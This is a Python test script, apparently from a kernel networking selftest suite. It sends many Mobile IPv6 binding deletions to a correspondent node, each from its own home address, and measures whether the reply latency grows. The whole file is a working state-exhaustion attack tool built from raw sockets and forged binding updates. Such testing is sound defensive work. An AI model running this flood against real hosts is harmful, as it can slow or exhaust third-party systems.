#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Many deletions at a correspondent, each from its own home address, as
an attacker holding a prefix can make them (RFC 6275 5.2.8 makes the
correspondent remember each one's sequence number):

  ro_flood.py --cn N --prefix P --count K --coa C --ifname I [--seq Q]

For i in 1..K, home address P + i (one of this node's addresses): HoTI
and HoT (a raw Mobility Header socket bound to it), then a BU from C
with a Home Address option, lifetime 0, Kbm = SHA1(home keygen token)
and the authenticator over the home address (5.2.5, 6.2.7). The BA,
which comes through a type 2 routing header this node need not
understand, is watched on interface I (a packet socket). Prints
  "deletions K answered A; BU->BA ms: first 50 median X, last 50 median Y"
and, with --dump PREFIX, writes the first and the last BU's packets to
PREFIX.first and PREFIX.last.
"""
import argparse
import hashlib
import ipaddress
import os
import select
import socket
import statistics
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mip6_bu import send6  # noqa: E402
from ro_dereg import bu_packet, recv_mh  # noqa: E402

MH = 135
ETH_P_IPV6 = 0x86DD


def home_token(hoa, cn):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, MH)
    s.bind((hoa, 0))
    try:
        for _ in range(20):
            cookie = os.urandom(8)
            s.sendto(struct.pack("!BBBBHH", 59, 1, 1, 0, 0, 0) + cookie,
                     (cn, 0))
            # the HoT is rate limited (200/s after 100): wait, try again
            m = recv_mh(s, lambda m: m[2] == 3 and m[8:16] == cookie, 0.2)
            if m:
                return int.from_bytes(m[6:8], "big"), bytes(m[16:24])
    finally:
        s.close()
    return None


def ba_seq(frame, hoa):
    """The sequence number of a BA to hoa (through RH2) in an Ethernet
    frame, or None."""
    ip = frame[14:]
    if len(ip) < 40 or ip[6] != 43:
        return None
    rh = ip[40:]
    if len(rh) < 24 or rh[2] != 2 or rh[8:24] != hoa:
        return None
    off = 40 + (rh[1] + 1) * 8
    m = ip[off:]
    if rh[0] != MH or len(m) < 12 or m[2] != 6:
        return None
    return int.from_bytes(m[8:10], "big")


def main():
    p = argparse.ArgumentParser()
    for k in ("cn", "prefix", "coa", "ifname", "dump"):
        p.add_argument("--" + k)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--seq", type=int, default=100)
    a = p.parse_args()
    base = int(ipaddress.IPv6Address(a.prefix))
    ps = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                       socket.htons(ETH_P_IPV6))
    ps.bind((a.ifname, ETH_P_IPV6))
    lat = []
    for i in range(1, a.count + 1):
        hoa_s = str(ipaddress.IPv6Address(base + i))
        hoa = socket.inet_pton(socket.AF_INET6, hoa_s)
        t = home_token(hoa_s, a.cn)
        if not t:
            continue
        hni, htok = t
        kbm = hashlib.sha1(htok).digest()
        pkt = bu_packet(hoa_s, a.coa, a.cn, a.seq, 0, hni, 0, kbm)
        if a.dump:
            for name in (["first"] if not lat else []) + ["last"]:
                with open("%s.%s" % (a.dump, name), "wb") as f:
                    f.write(bytes(pkt))
        t0 = time.monotonic()
        send6(pkt)
        end = t0 + 2
        while time.monotonic() < end:
            r, _, _ = select.select([ps], [], [], end - time.monotonic())
            if not r:
                break
            if ba_seq(ps.recv(4096), hoa) == a.seq:
                lat.append((time.monotonic() - t0) * 1000)
                break
    ps.close()
    if len(lat) < 2:
        print("deletions %d answered %d" % (a.count, len(lat)))
        return 1
    k = min(50, len(lat) // 2)
    print("deletions %d answered %d; BU->BA ms: first %d median %.1f, last %d median %.1f"
          % (a.count, len(lat), k, statistics.median(lat[:k]), k,
             statistics.median(lat[-k:])))
    return 0


if __name__ == "__main__":
    sys.exit(main())
